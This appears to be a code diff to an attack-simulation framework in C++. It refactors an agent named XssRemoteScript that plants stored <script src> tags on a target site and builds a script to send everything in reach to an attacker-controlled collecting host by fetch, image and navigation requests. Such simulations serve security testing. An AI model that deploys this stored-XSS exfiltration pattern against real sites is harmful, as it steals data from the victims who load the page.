@@ -17,17 +17,16 @@ class XssRemoteScript final : public Agent {
     void run(Target& target) override {
         OwnHost* evil = foreign_host(target);
         if (evil == nullptr || target.victim() == nullptr) return;
-        evil->answer(evil->folder() + "c", {.status = 204});
+        std::string const collecting = collecting_address(*evil);
         StoredText text(target);
         std::vector<std::string> scripts;
-        for (std::string const& address : addresses(target, *evil))
+        for (std::string const& address : addresses(target, *evil, script_for(target, collecting)))
             scripts.push_back("<script src=" + in_quotes(address) + "></script>");
         text.leave_all(scripts);
         victim_reads_and_loot_is_used(target);
     }
 
-    static std::string script_for(Target& target, OwnHost const& evil) {
-        std::string const address = address_on(evil, "c");
+    static std::string script_for(Target const& target, std::string const& address) {
         std::string script = send_script(Channel::Fetch, address, kAllInReach) +
                              send_script(Channel::Image, address, kAllInReach) +
                              send_script(Channel::Navigation, address, kAllInReach);
@@ -36,8 +35,9 @@ class XssRemoteScript final : public Agent {
         return once(script);
     }
 
-    static std::vector<std::string> addresses(Target& target, OwnHost& evil) {
-        std::string const script = script_for(target, evil);
+    // Of the script, wherever it can be made to lie.
+    static std::vector<std::string> addresses(Target& target, OwnHost& evil,
+                                              std::string const& script) {
         http::Response const file{
             .status = 200,
             .headers = {{"content-type", "text/javascript"}, {"access-control-allow-origin", "*"}},
